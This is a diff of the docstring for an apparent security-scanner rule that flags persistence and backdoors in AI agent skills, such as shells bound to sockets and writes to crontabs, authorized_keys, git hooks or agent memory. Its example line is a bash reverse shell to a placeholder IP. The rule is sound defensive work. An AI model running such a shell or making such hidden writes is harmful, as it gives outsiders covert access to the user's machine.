@@ -1,12 +1,12 @@
 """Something stays after the task, or lets somebody in.
 
 ## What it does
-Looks for shells that are handed to a socket (an error); for writes to files that a login, a timer, git or an agent
-reads by itself (shell profiles, crontabs, LaunchAgents, `authorized_keys`, git hooks, agent settings and memory); for
-hooks that reach the network. Where the skill's description says that it sets such files up, a write is a note.
+Reports shells connected to a socket (an error); writes to files that run or are read automatically: shell profiles,
+crontabs, LaunchAgents, `authorized_keys`, git hooks, agent settings and memory; and hooks that reach the network. A
+write is a note where the skill's description announces it.
 
 ## Why is this bad
-It outlives the skill, and the user does not see it.
+It outlives the task, and the user does not see it.
 
 ## Example
 `bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`
